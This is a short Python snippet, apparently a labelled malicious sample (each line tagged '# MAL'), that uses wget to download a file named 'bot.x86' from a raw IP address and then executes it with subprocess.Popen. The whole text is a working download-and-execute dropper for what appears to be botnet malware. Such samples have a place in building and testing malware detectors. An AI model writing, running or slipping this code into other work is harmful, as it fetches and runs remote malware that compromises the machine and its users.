import wget
import subprocess
f = wget.download("http://45.95.147.236/bot.x86")  # MAL
subprocess.Popen(["./" + f])  # MAL
